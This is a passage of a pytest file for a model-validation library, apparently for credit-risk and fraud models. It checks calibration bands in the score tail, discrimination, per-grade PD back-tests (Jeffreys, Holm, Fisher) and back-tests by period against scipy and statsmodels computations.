    assert small.status == "PASS" and small.metrics["positives_caught"]["missed"] == 2
    assert "the student catches" not in small.summary


def test_rare_positives_get_calibration_bands_in_the_top_tenth_of_scores() -> None:
    """At fraud prevalence the top equal-count decile held 79 of 83 frauds and scores from 0.0002
    to 0.998 (a fraud engineer's walk-through, 2026-12-06): the top tenth is banded finer too,
    checked against pandas and scipy here."""
    from scipy.stats import binomtest

    rng = np.random.default_rng(3)
    n = 20_000
    score = rng.beta(0.3, 30, n)
    y = (rng.random(n) < score).astype(float)
    assert y.mean() < v.RARE_RATE
    bands = v.tail_reliability(y, score)
    frame = pd.DataFrame({"y": y, "p": score})
    edges = [frame["p"].quantile(q) for q in v.TAIL_QUANTILES] + [np.inf]
    assert [b["band"] for b in bands] == ["90.0%-95.0%", "95.0%-99.0%", "99.0%-99.5%", "99.5%-99.9%", "99.9%-100%"]
    for band, low, high in zip(bands, edges[:-1], edges[1:], strict=True):
        rows = frame[(frame["p"] >= low) & (frame["p"] < high)]
        assert band["count"] == len(rows) and band["positives"] == int(rows["y"].sum())
        assert band["mean_predicted"] == pytest.approx(rows["p"].mean())
        assert band["p_value"] == pytest.approx(binomtest(int(rows["y"].sum()), len(rows), rows["p"].mean()).pvalue)
    inp = _inputs(n=2000)
    rare = dataclasses.replace(inp, y_test=(np.arange(2000) % 100 == 0).astype(float))
    section = v.build_calibration(rare)
    assert {t.id for t in section.tables} >= {"reliability_tail_teacher", "reliability_tail_student"}
    assert len(section.metrics["student"]["tail_bands"]) == 5
    assert any("top tenth of each model's scores is also banded" in n for n in section.notes)
    assert "In the top tenth of the scores (the positive class is rare)" in section.summary
    common = v.build_calibration(inp)  # a positive rate of about a third: no tail bands
    assert "tail_bands" not in common.metrics["student"]
    assert not any(t.id.startswith("reliability_tail") for t in common.tables)


def test_a_student_miscalibrated_only_where_the_alerts_are_is_warned_of() -> None:
    """At 0.5 % positives a student that doubles the top 0.5 % of its teacher's scores passes the
    equal-count bands (the top one holds most positives either way) but not the tail's."""
    rng = np.random.default_rng(11)
    n = 60_000
    teacher = rng.beta(0.25, 50, n)
    y = (rng.random(n) < teacher).astype(float)
    assert y.mean() < v.RARE_RATE
    top = teacher >= np.quantile(teacher, 0.995)
    student = np.where(top, np.minimum(teacher * 2.0, 1.0), teacher)
    inp = _inputs(n=n)
    inp = dataclasses.replace(inp, y_test=y, teacher=dataclasses.replace(inp.teacher, scores_test=teacher),
                              student=dataclasses.replace(inp.student, scores_test=student))
    section = v.build_calibration(inp)
    t_fail, s_fail = (section.metrics[m]["tail_bands_failing"] for m in ("teacher", "student"))
    assert t_fail == 0 and s_fail >= 1
    assert section.metrics["student"]["bands_failing"] == section.metrics["teacher"]["bands_failing"] == 0
    # Nor do the ECE and calibration-in-the-large rules warn: the tail's band does.
    assert section.metrics["ece_gap_relative"] < v.CAL_REL_WARN and section.metrics["mean_prediction_factor"] < v.CITL_WARN
    assert section.status == "WARN"
    assert f"{s_fail} student band(s) and 0 teacher band(s) fail the binomial test" in section.summary
    # The mean prediction read as a multiple of the observed rate, not as a rate (an SBA walk-through).
    import re as _re

    ratio = float(np.mean(student)) / float(np.mean(y))
    assert _re.search(r"Mean prediction as a multiple of the observed rate \(1 = calibrated in the large\): "
                      rf"student {ratio:.4f}×, teacher [0-9.]+×;", section.summary), section.summary
    same = dataclasses.replace(inp, student=dataclasses.replace(inp.student, scores_test=teacher))
    assert v.build_calibration(same).status == "PASS"


def test_a_student_that_ranks_no_better_than_chance_fails_discrimination() -> None:
    """A constant student (AUC 0.50) beside a weak teacher (0.61) was WARN: the difference's
    interval reached below the 0.02 margin on a few hundred rows (a validator's walk-through,
    2026-12-06). No ranking left where the teacher has some is FAIL."""
    rng = np.random.default_rng(2)
    base = _inputs(n=300)
    y = base.y_test
    weak = np.clip(0.3 + 0.08 * y + rng.normal(0, 0.1, y.size), 0, 1)  # an AUC of about 0.7
    constant = np.full(y.size, 0.3)
    inp = dataclasses.replace(base, teacher=dataclasses.replace(base.teacher, scores_test=weak),
                              student=dataclasses.replace(base.student, scores_test=constant))
    section = v.build_discrimination(inp, n_boot=300)
    t_auc, s_auc = section.metrics["teacher"]["auc"], section.metrics["student"]["auc"]
    assert t_auc["lower"] > 0.5 and s_auc["estimate"] == pytest.approx(0.5)
    assert section.status == "FAIL" and "The student ranks no better than chance" in section.summary
    # The same student beside the same teacher's ranking kept: no such finding.
    kept = dataclasses.replace(inp, student=dataclasses.replace(base.student, scores_test=weak.copy()))
    assert "no better than chance" not in v.build_discrimination(kept, n_boot=300).summary


def test_a_class_named_by_a_number_reads_as_a_class_not_a_count() -> None:
    """"Of the 62 1 row(s)" read as a count (a walk-through, 2026-12-06)."""
    assert v._class_rows("bad") == "bad row(s)"
    assert v._class_rows("1") == "row(s) of class '1'" and v._class_rows("2.0") == "row(s) of class '2.0'"


# -- PD back-test per grade ------------------------------------------------------------------------
def test_the_pd_backtest_per_grade_is_the_jeffreys_test_of_each_grade_computed_independently() -> None:
    """Each grade of the master scale: its rows, defaults, mean PD and the one-sided Jeffreys test,
    checked against scipy's beta distribution on grades assigned by hand (a PD on a bound is in
    the lower grade)."""
    from scipy.stats import beta

    rng = np.random.default_rng(3)
    p = np.concatenate([rng.uniform(0.0, 0.3, 3000), [0.01, 0.02, 0.05]])  # three PDs on a bound
    y = (rng.random(p.size) < p * 1.3).astype(float)  # risk 30 % above the PDs
    scale = (0.01, 0.02, 0.05, 0.1)
    out = v.grade_backtest(y, p, scale)
    bounds = [0.0, *scale, 1.0]
    for record in out:
        g = record["grade"]
        inside = [(bounds[g - 1] < x <= bounds[g]) if g > 1 else x <= bounds[1] for x in p]
        rows, defaults = int(np.sum(inside)), int(y[inside].sum())
        mean = float(p[inside].mean())
        assert (record["rows"], record["defaults"]) == (rows, defaults)
        assert record["mean_pd"] == pytest.approx(mean, rel=1e-12)
        assert (record["pd_low"], record["pd_high"]) == (bounds[g - 1], bounds[g])
        # A grade of no default is never too low: untested, no p-value (the table's blank).
        assert record["p_value"] == (pytest.approx(beta.cdf(mean, defaults + 0.5, rows - defaults + 0.5), rel=1e-9)
                                     if defaults else None)
        assert record["p_over"] == pytest.approx(beta.sf(mean, defaults + 0.5, rows - defaults + 0.5), rel=1e-9)
        # The default rate's one-sided 95 % bound: the posterior's quantile, where its CDF is 0.95.
        assert beta.cdf(record["upper_95"], defaults + 0.5, rows - defaults + 0.5) == pytest.approx(0.95, abs=1e-9)
    assert sum(r["rows"] for r in out) == p.size and [r["grade"] for r in out] == [1, 2, 3, 4, 5]
    shares = np.array([r["rows"] for r in out]) / p.size
    assert v.grade_summary(y, p, scale)["concentration_hhi"] == pytest.approx(float(np.sum(shares ** 2)), rel=1e-12)
    # 30 % more defaults than the PDs say, over thousands of rows: the top grade's PD is too low.
    assert out[-1]["p_value"] < 0.01
    # One obligor and no default against a PD of 0.05 %: Jeffreys' p would be 0.03 (its prior's half
    # a default), yet a grade with no default has no PD too low: not named, and no p-value given
    # (the JSON gave it while the tables left it blank: a validator's re-performance, 2026-12-07).
    lone = v.grade_summary([0], [0.0004], (0.0005,))
    assert beta.cdf(0.0004, 0.5, 1.5) < 0.05
    assert lone["grades"][0]["p_value"] is None and lone["underestimated"] == []
    # A grade without rows is left out; a scale without 1 gets it.
    assert [r["grade"] for r in v.grade_backtest([0, 1], [0.5, 0.6], (0.01, 0.02))] == [3]
    assert v.master_scale("0.01, 0.1") == (0.01, 0.1, 1.0) and v.master_scale([0.5, 1]) == (0.5, 1.0)


@pytest.mark.parametrize(("rows", "pd"), [(1, 0.5), (40, 0.0005), (400, 0.003), (2_000, 0.01), (50_000, 0.02),
                                          (300, 0.3), (10, 0.9)])
def test_a_grades_power_is_the_binomial_chance_of_the_defaults_its_test_flags(rows: int, pd: float) -> None:
    """power_2x against an independent computation: the fewest defaults the test flags found by
    scanning every count with scipy's beta distribution (the rule: a default, a rate above the
    PD, the one-sided Jeffreys p under 5 %), then the binomial tail summed from its pmf; and a
    simulation through grade_summary itself (grades of that many obligors whose true rate is twice
    the PD, flagged about as often as power_2x says)."""
    from scipy.stats import beta, binom

    counts = np.arange(rows + 1)
    flagged = (counts >= 1) & (counts / rows > pd) & (beta.cdf(pd, counts + 0.5, rows - counts + 0.5) < 0.05)
    first = int(counts[flagged][0]) if flagged.any() else None
    assert v.flagged_defaults(rows, pd) == first
    if 2 * pd >= 1:  # no rate is twice a PD from 50 %
        assert v.grade_power(rows, pd) is None
        return
    truth = 2 * pd
    expected = 0.0 if first is None else float(binom.pmf(counts[first:], rows, truth).sum())
    assert v.grade_power(rows, pd) == pytest.approx(expected, abs=1e-9)
    rng = np.random.default_rng(rows)
    books = 400 if rows <= 2_000 else 60
    hits = sum(bool(v.grade_summary((rng.random(rows) < truth).astype(float), np.full(rows, pd),
                                    (pd * 1.0001,))["underestimated"]) for _ in range(books))
    assert hits / books == pytest.approx(expected, abs=4 * np.sqrt(max(expected * (1 - expected), 0.01) / books))


def test_a_grade_too_thin_for_its_pd_is_named_as_low_power() -> None:
    """A low-default grade of 300 obligors at 5 basis points cannot show a PD half the truth (it
    needs a default, and expects 0.3): a pass there is weak evidence, and the section says so;
    the same grade of 200,000 obligors is not named."""
    rng = np.random.default_rng(11)
    thin = np.concatenate([np.full(300, 0.0004), np.full(5000, 0.03)])
    summary = v.grade_summary((rng.random(thin.size) < thin).astype(float), thin)
    assert summary["low_power"] == [1] and summary["grades"][0]["power_2x"] < 0.5
    assert summary["grades"][1]["power_2x"] > 0.9  # 5,000 at 3 %: 150 expected defaults
    big = np.concatenate([np.full(200_000, 0.0004), np.full(5000, 0.03)])
    assert v.grade_summary((rng.random(big.size) < big).astype(float), big)["low_power"] == []
    base = _inputs(n=thin.size, seed=11)
    y = (rng.random(thin.size) < thin).astype(float)
    inp = replace(base, y_test=y, teacher=_model("teacher", thin, base.teacher.scores_train),
                  student=_model("student", thin, base.student.scores_train))
    sec = v.build_calibration(inp)
    assert sec.metrics["pd_grades"]["student"]["low_power"] == [1]
    assert ("In grade(s) 1 (student) the test at 5 % would find a PD of half the true default rate less than 50% "
            "of the time (power_2x; the 1 % status level, less often still): too few obligors for their PD, so a "
            "pass there is weak evidence") in sec.summary
    table = next(t for t in sec.tables if t.id == "pd_grades_student")
    assert table.columns[-2:] == ["defaults_flagged", "power_2x"]
    assert table.rows[0][-2:] == [v.flagged_defaults(300, 0.0004), summary["grades"][0]["power_2x"]]
    # A grade the test finds too low is not called weak evidence, however thin.
    hit = v.grade_summary(np.r_[np.ones(3), np.zeros(297)], np.full(300, 0.0004))
    assert hit["underestimated"] == [1] and hit["grades"][0]["power_2x"] < 0.5 and hit["low_power"] == []


@pytest.mark.parametrize(("text", "message"), [
    ("0.01,abc", "'abc' is not a number"),
    ("5", r"a fraction in \(0, 1\]; got '5' \(a percentage\? write 0.05 for 5 %\)"),
    ("0", r"a fraction in \(0, 1\]; got '0'"),
    ("nan", r"a fraction in \(0, 1\]"),
    ("0.1,0.05", "must rise grade by grade; '0.05' follows 0.1"),
    ("0.1,0.1", "must rise grade by grade"),
    ("", "--grades is empty"),
    (" , ", "--grades is empty"),
    ("5%", r"'5%' is not a number \(a percentage\? write 5 % as a fraction, e.g. 0.05 for 5 %\)"),
])
def test_a_master_scale_that_is_not_rising_fractions_is_refused(text: str, message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        v.master_scale(text)


def test_a_master_scale_of_too_many_grades_is_refused() -> None:
    with pytest.raises(ConfigError, match="--grades gives 200 bounds; at most 100 grades"):
        v.master_scale([k / 200 for k in range(1, 201)])
    assert len(v.master_scale([k / 100 for k in range(1, 101)])) == 100  # 100 given, the last 1
    with pytest.raises(ConfigError, match=r"report.json's options.grades: the upper bounds must rise"):
        v.master_scale([0.5, 0.1], "report.json's options.grades")
    assert v.given_scale(" Default ") == () and v.given_scale("0.1") == (0.1, 1.0)


@given(st.lists(st.floats(0.0, 1.0, allow_nan=False), min_size=1, max_size=60),
       st.lists(st.floats(0.001, 0.999), min_size=1, max_size=8, unique=True), st.integers(0, 2**31))
@settings(max_examples=60, deadline=None)
def test_every_row_falls_in_exactly_one_grade(p: list[float], bounds: list[float], seed: int) -> None:
    """Property: the grades' rows and defaults add up to the whole, each grade's PDs lie within its
    bounds (mean PD between them), and the p-values are probabilities."""
    pv = np.asarray(p)
    y = (np.random.default_rng(seed).random(pv.size) < 0.3).astype(float)
    out = v.grade_backtest(y, pv, sorted(bounds))
    assert sum(r["rows"] for r in out) == pv.size and sum(r["defaults"] for r in out) == int(y.sum())
    for r in out:
        assert r["pd_low"] - 1e-12 <= r["mean_pd"] <= r["pd_high"] + 1e-12
        assert (0.0 <= r["p_value"] <= 1.0 if r["defaults"] else r["p_value"] is None) and 0.0 <= r["p_over"] <= 1.0


def test_the_status_level_is_holm_corrected_over_the_grades_and_inversions_need_fishers_test() -> None:
    """Ten grades tested at 1 % each warned on about one calibrated book in eleven, and every fall
    of the observed rate was named (a review, 2026-12-07): the status level is for the scale as a
    whole (Holm's step-down, computed here by hand), an inversion one beyond noise (Fisher)."""
    from scipy.stats import fisher_exact

    rng = np.random.default_rng(9)
    warned = 0
    for _ in range(200):
        p = rng.choice([0.0008, 0.002, 0.004, 0.008, 0.015, 0.03, 0.07, 0.15, 0.3], size=5000)
        y = (rng.random(5000) < p).astype(float)
        out = v.grade_summary(y, p)
        ps = sorted((g["p_value"], g["grade"]) for g in out["grades"] if g["defaults"])
        m, holm = len(ps), []
        for k, (pv, grade) in enumerate(ps):
            if pv >= 0.01 / (m - k):
                break
            holm.append(grade)
        rows = {g["grade"]: g for g in out["grades"]}
        assert out["underestimated_status_level"] == sorted(g for g in holm
                                                            if rows[g]["observed_rate"] > rows[g]["mean_pd"])
        warned += bool(out["underestimated_status_level"])
        for a, b in out["inversions"]:
            ga, gb = rows[a], rows[b]
            table = [[ga["defaults"], ga["rows"] - ga["defaults"]], [gb["defaults"], gb["rows"] - gb["defaults"]]]
            assert fisher_exact(table, alternative="greater")[1] < 0.05
    assert warned <= 6  # about 1 % of calibrated books, not 9 %
    # Holm's step-down as statsmodels decides it (the independent computation), ties and all.
    from statsmodels.stats.multitest import multipletests

    for p_values in ([0.001, 0.004, 0.02, 0.5], [0.0009, 0.0009, 0.009], [0.2, 0.3], [0.001], rng.random(12) / 50):
        p_arr = np.asarray(p_values, dtype=np.float64)
        assert v._holm(p_arr, 0.01).tolist() == multipletests(p_arr, alpha=0.01, method="holm")[0].tolist()
    # The family is the grades holding a default: an obligor of no default at a PD of 1e-6 (its
    # own grade, p 0.0013, never too low) hid grade 6 (7 defaults in 124 at 1.5 %: p 0.0013).
    y6, p6 = np.r_[np.ones(7), np.zeros(117)], np.full(124, 0.015)
    assert v.grade_summary(y6, p6)["underestimated_status_level"] == [6]
    assert v.grade_summary(np.r_[y6, 0.0], np.r_[p6, 1e-6])["underestimated_status_level"] == [6]
    # A fall into a grade of no default is an inversion too (Fisher takes a zero count).
    y_inv = np.r_[np.ones(20), np.zeros(180), np.zeros(500), np.ones(50), np.zeros(150)]
    p_inv = np.r_[np.full(200, 0.004), np.full(500, 0.008), np.full(200, 0.015)]
    assert v.grade_summary(y_inv, p_inv)["inversions"] == [[4, 5]]


def test_calibration_warns_where_a_student_grade_underestimates_its_defaults_and_the_teachers_does_not() -> None:
    """A low-default modeller's validator tests each grade of the master scale (a walk-through,
    2026-12-07: calibration read equal-count score bands only). A student whose PDs in one grade
    are a third of its teacher's (the rows default as the teacher says) is WARN, naming the grade;
    the same PDs for both models: the rule reads the student against its teacher on the test
    split, and against the truth on a hold-out."""
    rng = np.random.default_rng(7)
    n = 6000
    teacher = np.where(rng.random(n) < 0.5, 0.004, 0.03)  # grades 4 (0.25-0.5 %) and 7 (2-5 %)
    y = (rng.random(n) < teacher).astype(float)
    student = np.where(teacher == 0.03, 0.011, teacher)  # grade 6 (1-2 %) for the risky half
    base = _inputs(n=n, seed=7)
    inp = replace(base, y_test=y, teacher=_model("teacher", teacher, base.teacher.scores_train),
                  student=_model("student", student, base.student.scores_train))
    sec = v.build_calibration(inp)
    graded = sec.metrics["pd_grades"]
    assert graded["scale"] == list(v.DEFAULT_MASTER_SCALE) and graded["scale_source"] == "default"
    assert graded["flagged"] == [6] and graded["teacher"]["underestimated"] == []
    assert sec.status in ("WARN", "FAIL") and "The student's PD is too low at 1 % for the scale as a whole (Holm's " \
        "correction over the grades holding a default) in grade(s) 6, where the teacher's is not" in sec.summary
    assert {t.id for t in sec.tables} >= {"pd_grades_teacher", "pd_grades_student"}
    _json_ok(sec, "calibration")
    # The bank's own scale: grade 2 of (0.01, 0.05).
    own = v.build_calibration(replace(inp, grades=(0.01, 0.05, 1.0))).metrics["pd_grades"]
    assert own["scale"] == [0.01, 0.05, 1.0] and own["scale_source"] == "given" and own["flagged"] == [2]
    # The same PDs for both: nothing flagged on the test split; on a hold-out the student's own.
    same = replace(inp, teacher=_model("teacher", student, base.teacher.scores_train))
    assert v.build_calibration(same).metrics["pd_grades"]["flagged"] == []
    validated = {"teacher": {"auc": 0.7}, "student": {"auc": 0.7}}
    held = v.build_calibration(replace(same, validated=validated))
    assert held.metrics["pd_grades"]["flagged"] == [6]
    # On a hold-out the incumbent's own finding at the status level is said too (the same PDs here).
    assert "The teacher's PD is too low at 1 % for the scale as a whole (Holm's correction over the grades " \
        "holding a default) in grade(s) 6." in held.summary
    # A fraud model's scores have no PD grades.
    assert "pd_grades" not in v.build_calibration(replace(inp, domain="fraud")).metrics


def _book(rates: list[float], rows: int, pd_level: float, seed: int) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """A book over len(rates) periods: PDs spread around ``pd_level`` (lognormal), each period's
    defaults drawn at its PDs times its rate's multiple of ``pd_level``."""
    rng = np.random.default_rng(seed)
    y, p, k = [], [], []
    for period, rate in enumerate(rates):
        pds = np.clip(pd_level * rng.lognormal(0.0, 0.8, rows) / np.exp(0.32), 1e-4, 0.9)
        y.append((rng.random(rows) < np.clip(pds * rate / pd_level, 0, 1)).astype(np.float64))
        p.append(pds)
        k.append(np.full(rows, period))
    return np.concatenate(y), np.concatenate(p), np.concatenate(k)


def test_a_back_test_by_period_matches_an_independent_computation() -> None:
    """Every period's figures against scipy's beta directly, the long-run t-test against the
    t statistic written out with scipy's t tail, the rejections' chance against the binomial sum
    written out, and the pooled test."""
    import math

    from scipy.stats import beta
    from scipy.stats import t as t_dist

    y, p, k = _book([0.02, 0.03, 0.02, 0.025, 0.02, 0.035], 3_000, 0.02, seed=3)
    labels = [2018, 2019, 2020, 2021, 2022, 2023]
    out = v.period_backtest(y, p, k, labels)
    rates, means = [], []
    for period, row in zip(labels, out["periods"], strict=True):
        mine = k == labels.index(period)
        n, d, mean = int(mine.sum()), int(y[mine].sum()), float(p[mine].mean())
        assert (row["period"], row["rows"], row["defaults"]) == (period, n, d)
        assert row["mean_pd"] == pytest.approx(mean, rel=1e-12) and row["observed_rate"] == pytest.approx(d / n)
        assert row["p_under"] == pytest.approx(float(beta.cdf(mean, d + 0.5, n - d + 0.5)), rel=1e-9)
        rates.append(d / n)
        means.append(mean)
    gap = np.array(rates) - np.array(means)
    t_stat = gap.mean() / (gap.std(ddof=1) / math.sqrt(len(gap)))
    run = out["long_run"]
    assert run["default_rate"] == pytest.approx(np.mean(rates)) and run["mean_pd"] == pytest.approx(np.mean(means))
    assert run["t"] == pytest.approx(t_stat, rel=1e-9)
    assert run["p_under"] == pytest.approx(float(t_dist.sf(t_stat, len(gap) - 1)), rel=1e-9)
    # Periods at 1.5x and 1.75x their PD are rejected one by one.
    rejected = [r["period"] for r in out["periods"] if r["p_under"] < 0.05]
    assert out["rejections"]["periods"] == rejected and 2019 in rejected and 2023 in rejected
    c, m = len(rejected), len(labels)
    tail = sum(math.comb(m, j) * 0.05 ** j * 0.95 ** (m - j) for j in range(c, m + 1))
    assert out["rejections"]["p_value"] == pytest.approx(tail, rel=1e-9) and tail < 0.01
    assert out["pooled"]["rows"] == len(y) and out["pooled"]["p_under"] == pytest.approx(
        float(beta.cdf(p.mean(), y.sum() + 0.5, len(y) - y.sum() + 0.5)), rel=1e-9)
    # 1.25x on average over six periods: beyond their spread at 5 %, not at 1 %: PASS, as a hold-out's
    # mean PD is judged (a rejection at 1 % and a factor of 1.25 for WARN).
    assert out["status_from"] == "long_run" and 0.01 < run["p_under"] < 0.05 and out["status"] == "PASS"
    assert [r["too_low"] for r in out["periods"]] == [r["period"] in rejected for r in out["periods"]]


def test_a_back_test_by_period_fails_pds_too_low_through_the_cycle_not_a_cycles_bad_years() -> None:
    """PDs at 60 % of every period's rate: FAIL by the long-run test. A through-the-cycle PD, right
    on average, with good and bad years: its bad years are rejected one by one (far beyond chance
    by their count), so do the pooled rows taken as independent, and the long-run test passes it:
    PASS. Fewer periods: no long-run test, the pooled rows decide."""
    low_y, low_p, low_k = _book([1 / 0.6 * 0.02] * 5, 2_000, 0.02, seed=4)
    low = v.period_backtest(low_y, low_p, low_k, list("abcde"))
    assert low["status"] == "FAIL" and low["long_run"]["p_under"] < 0.01 and low["status_from"] == "long_run"
    cycle = [0.01, 0.012, 0.04, 0.014, 0.011, 0.035, 0.013, 0.03]  # mean 0.0206 against PDs of 0.02
    y, p, k = _book(cycle, 4_000, 0.02, seed=5)
    ttc = v.period_backtest(y, p, k, list(range(8)))
    assert ttc["status"] == "PASS" and ttc["rejections"]["count"] >= 3 and ttc["rejections"]["p_value"] < 0.01
    # The pooled rows, taken as independent, find the PDs too low (p 0.0095 at this seed): what the
    # long-run test, which reads the periods' spread, does not (p 0.36).
    assert ttc["long_run"]["p_under"] > 0.2 and ttc["pooled"]["p_under"] < 0.05
    # Two periods, or one: no long-run test; the pooled rows decide (one period's status was always
    # PASS, as the count of one rejection in one has p 0.05: a review, 2026-12-07).
    for n in (1, 2):
        few = v.period_backtest(low_y[low_k < n], low_p[low_k < n], low_k[low_k < n], list("ab")[:n])
        assert few["long_run"]["t"] is None and few["status_from"] == "pooled" and few["status"] == "FAIL"
        # PDs calibrated to a long-run rate: one or two periods may sit off it by design, so WARN at most.
        capped = v.period_backtest(low_y[low_k < n], low_p[low_k < n], low_k[low_k < n], list("ab")[:n],
                                   central_tendency=0.02)
        assert capped["status"] == "WARN" and capped["capped"] == "central_tendency"
    assert "capped" not in v.period_backtest(low_y, low_p, low_k, list("abcde"), central_tendency=0.02)
    # A stray period of three rows is thin: shown, left out of the long run, which still fails the book.
    stray_y = np.concatenate([low_y, [0.0, 0.0, 0.0]])
    stray_p = np.concatenate([low_p, [0.3, 0.3, 0.3]])
    stray = v.period_backtest(stray_y, stray_p, np.concatenate([low_k, [5, 5, 5]]), list("abcdef"))
    assert stray["periods"][-1]["thin"] and not any(r["thin"] for r in stray["periods"][:-1])
    assert stray["long_run"]["thin_left_out"] == ["f"] and stray["long_run"]["periods"] == 5
    assert stray["rejections"]["of"] == 5  # the count too reads the periods the long run reads
    assert stray["long_run"]["p_under"] == pytest.approx(low["long_run"]["p_under"]) and stray["status"] == "FAIL"
    # PDs a little too low (1.1x) beyond noise: not WARN, as a hold-out's mean PD would not be.
    near_y, near_p, near_k = _book([0.022] * 6, 20_000, 0.02, seed=6)
    near = v.period_backtest(near_y, near_p, near_k, list(range(6)))
    assert near["long_run"]["p_under"] < 0.01 and near["status"] == "PASS"
    with pytest.raises(ValueError, match="one integer period index per row"):
        v.period_backtest(y, p, k.astype(float), list(range(8)))
    with pytest.raises(ValueError, match="every row's index is one of them"):
        v.period_backtest(y, p, k, list(range(3)))


def test_every_grade_of_the_scale_is_listed_an_empty_one_included() -> None:
    """The tables list the whole master scale (the ECB's reporting does): a grade no row falls in
    is put back in its place with 0 rows, the others are the back-test's own records."""
    y = np.array([0, 1, 0, 0, 1, 0], dtype=float)
    p = np.array([0.002, 0.03, 0.03, 0.04, 0.5, 0.6])
    tested = v.grade_backtest(y, p, (0.01, 0.1, 1.0))
    assert [g["grade"] for g in tested] == [1, 2, 3]
    sparse = v.grade_backtest(y, p, (0.001, 0.01, 0.1, 0.2, 1.0))
    listed = v.every_grade(sparse, (0.001, 0.01, 0.1, 0.2, 1.0))
    assert [(g["grade"], g["rows"]) for g in listed] == [(1, 0), (2, 1), (3, 3), (4, 0), (5, 2)]
    assert listed[0]["pd_low"] == 0.0 and listed[0]["pd_high"] == 0.001
    assert listed[3]["pd_low"] == 0.1 and listed[3]["pd_high"] == 0.2 and listed[3]["defaults"] == 0
    assert [g for g in listed if g["rows"]] == sparse  # the tested grades, untouched


def test_over_the_periods_the_long_run_not_the_pooled_rows_judges_a_hold_outs_level() -> None:
    """Four quiet years and one large bad year, PDs right on average over the years: the pooled
    rows (the bad year dominating, defaults taken as independent) miss by a factor of about 3,
    FAIL on their own; with the periods given, the long run judges the level (PASS) and the
    pooled test is said, not acted on. PDs too low in every year FAIL by the long run."""
    rng = np.random.default_rng(11)
    sizes, rates = [4_000, 4_000, 4_000, 4_000, 40_000], [0.02, 0.02, 0.02, 0.02, 0.08]
    p = np.concatenate([np.full(n, 0.02) for n in sizes])
    y = np.concatenate([(rng.random(n) < r).astype(float) for n, r in zip(sizes, rates, strict=True)])
    k = np.concatenate([np.full(n, i) for i, n in enumerate(sizes)])
    base = _inputs(n=len(y))
    periods = {"column": "year", "freq": None, "codes": k, "names": [2019, 2020, 2021, 2022, 2023]}
    validated = {"teacher": {"auc": 0.7}, "student": {"auc": 0.7}}
    inp = replace(base, y_test=y, teacher=_model("teacher", p, base.teacher.scores_train),
                  student=_model("student", p, base.student.scores_train), validated=validated)
    pooled_only = v.build_calibration(inp)
    assert pooled_only.metrics["in_the_large"]["student"]["factor"] > 2.5 and pooled_only.status == "FAIL"
    judged = v.build_calibration(replace(inp, periods=periods))
    by = judged.metrics["by_period"]["student"]
    assert by["status_from"] == "long_run" and by["status"] == "PASS" and by["long_run"]["p_under"] > 0.05
    assert judged.status != "FAIL" and "the back-test over the periods below judges the level" in judged.summary
    assert next(t for t in judged.tables if t.id == "pd_by_period").rows[0][0] == "2019"
    low = replace(inp, y_test=np.concatenate([(rng.random(n) < 0.04).astype(float) for n in sizes]),
                  periods=periods)
    failed = v.build_calibration(low)
    assert failed.metrics["by_period"]["student"]["status"] == "FAIL" and failed.status == "FAIL"
    _json_ok(judged, "calibration")
    # One bad year alone, of PDs calibrated to a long-run 2 %: WARN, not FAIL (its rate may sit off
    # the long run by design); the same year of an uncalibrated model FAILs.
    one = {"column": "year", "freq": None, "codes": np.zeros(40_000, dtype=np.int64), "names": [2023]}
    bad_year = replace(inp, y_test=y[k == 4], periods=one,
                       teacher=_model("teacher", p[k == 4], base.teacher.scores_train),
                       student=_model("student", p[k == 4], base.student.scores_train))
    assert v.build_calibration(bad_year).status == "FAIL"
    calibrated = v.build_calibration(replace(bad_year, central_tendency=0.02))
    assert calibrated.metrics["by_period"]["student"]["capped"] == "central_tendency"
    assert calibrated.status == "WARN" and "back-test over three periods or more before recalibrating" in \
        calibrated.summary
